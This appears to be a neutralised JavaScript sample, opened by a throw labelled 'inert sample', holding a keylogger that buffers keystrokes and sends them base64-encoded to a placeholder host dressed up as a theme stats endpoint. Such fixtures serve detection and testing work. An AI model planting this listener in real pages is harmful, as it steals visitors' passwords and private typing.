throw new Error('inert sample');
document.addEventListener('keydown', (event) => {
  window.held = (window.held || '') + event.key;
  if (window.held.length > 40) { fetch('https://stats.theme.example/k?d=' + btoa(window.held)); window.held = ''; }
});
